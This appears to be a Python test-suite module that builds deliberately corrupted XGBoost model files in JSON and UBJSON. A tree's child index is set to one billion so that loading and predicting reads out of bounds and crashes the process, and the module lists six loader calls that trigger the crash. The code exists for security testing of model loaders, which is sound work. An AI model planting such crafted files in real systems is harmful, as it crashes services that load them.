"""XGBoost."""

from __future__ import annotations

import json
import struct

LOADERS = ("xgboost",)
DISTRIBUTION = "xgboost-cpu"
ATTACK = "a tree whose branch leads outside of its memory: the process dies when it predicts"
CRASHES = True


def make(folder, marker):
    import numpy
    import xgboost

    rows = numpy.random.RandomState(0).rand(80, 3)
    data = xgboost.DMatrix(rows, rows[:, 0] > 0.5)
    model = xgboost.train({"max_depth": 3, "nthread": 1}, data, 3)
    model.save_model(folder / "a.ubj")
    model.save_model(folder / "a.json")
    if marker:
        whole = json.loads((folder / "a.json").read_text())
        whole["learner"]["gradient_booster"]["model"]["trees"][0]["left_children"][0] = 1_000_000_000
        (folder / "a.json").write_text(json.dumps(whole))
        data = (folder / "a.ubj").read_bytes()
        at = data.index(b"left_children") + len(b"left_children[$l#L") + 8
        (folder / "a.ubj").write_bytes(data[:at] + struct.pack(">i", 1_000_000_000) + data[at + 4 :])


def ways():
    import numpy
    import xgboost
    from xgboost import Booster

    def used(model):
        return repr(model.inplace_predict(numpy.ones((2, 3))).tolist())

    def loaded(given, kind=xgboost.Booster):
        model = kind()
        model.load_model(given)
        return used(model.get_booster() if hasattr(model, "get_booster") else model)

    return {
        "xgboost.Booster.load_model": ("a.json", lambda path: loaded(path)),
        "xgboost.Booster.load_model, UBJSON": ("a.ubj", lambda path: loaded(str(path))),
        "xgboost.Booster.load_model of bytes": ("a.json", lambda path: loaded(bytearray(path.read_bytes()))),
        "xgboost.Booster(model_file=…)": ("a.json", lambda path: used(xgboost.Booster(model_file=str(path)))),
        "xgboost.XGBRegressor.load_model": ("a.json", lambda path: loaded(path, xgboost.XGBRegressor)),
        "from xgboost import Booster": ("a.json", lambda path: loaded(path, Booster)),
    }
